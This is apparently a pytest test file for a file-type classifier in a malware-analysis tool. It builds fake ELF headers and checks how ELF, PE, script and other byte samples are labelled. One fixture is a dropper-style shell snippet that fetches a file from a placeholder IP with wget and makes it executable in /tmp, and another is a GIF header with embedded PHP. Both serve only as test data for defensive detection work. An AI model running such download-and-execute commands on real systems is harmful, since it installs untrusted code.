"""Types and machines of files, by headers made here, field by field, and by programs of this machine."""

from __future__ import annotations

import struct

import pytest

from mirage.analysis.artifacts.kinds import Kind, kind_of


def elf(
    bits: int = 64,
    order: str = "<",
    kind: int = 2,
    machine: int = 62,
    segments: tuple[int, ...] = (1,),
    sections: tuple[int, ...] = (),
) -> bytes:
    """An ELF header with program and section headers of these types, and nothing behind them."""
    size, segment, section = (64, 56, 64) if bits == 64 else (52, 32, 40)
    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1 if order == "<" else 2, 1]) + bytes(9)
    word = "Q" if bits == 64 else "I"
    head = struct.pack(
        f"{order}HHI{word}{word}{word}IHHHHHH",
        kind, machine, 1, 0, size, size + segment * len(segments), 0, size, segment, len(segments), section, len(sections), 0,
    )  # fmt: skip
    body = b"".join(struct.pack(order + "I", one).ljust(segment, b"\0") for one in segments)
    return ident + head + body + b"".join(struct.pack(order + "II", 0, one).ljust(section, b"\0") for one in sections)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (elf(), Kind(name="ELF executable", architecture="x86-64, 64 bit, little endian", details=("static", "without section headers"))),
        (
            elf(32, ">", 2, 8, (1, 3), (0, 1)),
            Kind(name="ELF executable", architecture="mips, 32 bit, big endian", details=("dynamic", "stripped")),
        ),
        (
            elf(32, "<", 3, 40, (1, 2), (0, 2)),
            Kind(name="ELF shared object", architecture="arm, 32 bit, little endian", details=("static",)),
        ),
        (elf(64, "<", 1, 183, ()), Kind(name="ELF object", architecture="aarch64, 64 bit, little endian", details=("without section headers",))),
        (elf(32, "<", 2, 999), Kind(name="ELF executable", architecture="machine 999, 32 bit, little endian", details=("static", "without section headers"))),
        (b"\x7fELF\x02", Kind(name="ELF", details=("cut short",))),
        (elf()[:30], Kind(name="ELF executable", architecture="x86-64, 64 bit, little endian", details=("cut short",))),
        (elf() + b"UPX!", Kind(name="ELF executable", architecture="x86-64, 64 bit, little endian", packer="upx", details=("static", "without section headers"))),
        (b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<H", 0x8664), Kind(name="PE executable", architecture="x86-64")),
        (b"MZ", Kind(name="DOS executable")),
        (b"", Kind(name="empty")),
        (b"\x1f\x8b\x08", Kind(name="gzip")),
        (b"#!/usr/bin/env python3\n", Kind(name="python script")),
        (b"#!/bin/bash -e\n", Kind(name="shell script")),
        (b"#! /usr/bin/perl -w\n", Kind(name="perl script")),
        (b"cd /tmp\nwget http://192.0.2.1/a\nchmod +x a\n", Kind(name="shell script")),
        (b"import os\nprint(1)\n", Kind(name="python source")),
        (b"GIF89a<?php x ?>", Kind(name="gif")),
        (b"[Unit]\nDescription=x\n", Kind(name="systemd unit")),
        (b"ssh-ed25519 AAAAC3 a@example.com\n", Kind(name="ssh public key")),
        (b"Dear all,\n", Kind(name="text")),
        (bytes(range(256)), Kind(name="data")),
    ],
    ids=lambda value: value.name if isinstance(value, Kind) else "",
)  # fmt: skip
def test_a_file_is_what_its_bytes_say(data: bytes, kind: Kind) -> None:
    assert kind_of(data) == kind


def test_headers_that_count_to_the_sky_cost_no_more_than_a_few() -> None:
    data = bytearray(elf())
    data[56:58], data[60:62] = b"\xff\xff", b"\xff\xff"
    assert kind_of(bytes(data) + bytes(1 << 20)).name == "ELF executable"
